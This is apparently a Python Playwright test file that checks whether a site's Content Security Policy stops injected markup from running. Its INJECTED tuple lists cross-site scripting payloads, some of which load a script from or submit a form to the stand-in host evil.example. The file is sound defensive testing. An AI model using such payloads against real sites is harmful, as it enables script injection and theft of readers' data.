"""A script put into a built page does not run: the policy is the second wall behind escaping."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

pytestmark = pytest.mark.browser
INJECTED = (
    "<script>window.ran = true</script>",
    "<img src=x onerror='window.ran = true'>",
    "<svg onload='window.ran = true'></svg>",
    "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
    "<script src='data:text/javascript,window.ran=true'></script>",
    "<script src='https://evil.example/x.js'></script>",
    "<a id=l href='javascript:window.ran=true'>x</a>",
    "<base href='https://evil.example/'><script src='x.js'></script>",
    "<object data='data:text/html,<script>parent.ran=true</script>'></object>",
    "<form action='https://evil.example/' id=f><input name=a></form>",
)
PATHS = ("/", "/search/", "/about/")


@pytest.mark.parametrize("injected", INJECTED)
def test_what_is_put_into_a_page_does_not_run(chromium: Browser, site: str, injected: str) -> None:
    """Whoever could write into the files could not make a reader's browser act."""
    context = chromium.new_context()
    page = context.new_page()
    away: list[str] = []
    page.on(
        "response",
        lambda got: None if got.url.startswith((site, "data:")) else away.append(got.url),
    )

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<main", f"{injected}<main", 1))

    for path in PATHS:
        page.route(f"{site}{path}", inject)
        page.goto(f"{site}{path}")
        assert injected[:5] in page.content()
        page.evaluate("document.querySelector('#l')?.click()")
        page.evaluate("document.querySelector('#f')?.submit()")
        page.wait_for_timeout(50)
        assert page.evaluate("window.ran") is None, path
        assert page.url == f"{site}{path}"
    context.close()
    assert away == []


def test_the_same_script_runs_without_the_policy(chromium: Browser, site: str) -> None:
    """So that the test above would see it."""
    context = chromium.new_context(bypass_csp=True)
    page = context.new_page()

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<main", f"{INJECTED[0]}<main"))

    page.route(f"{site}/", inject)
    page.goto(f"{site}/")

    assert page.evaluate("window.ran") is True
    context.close()
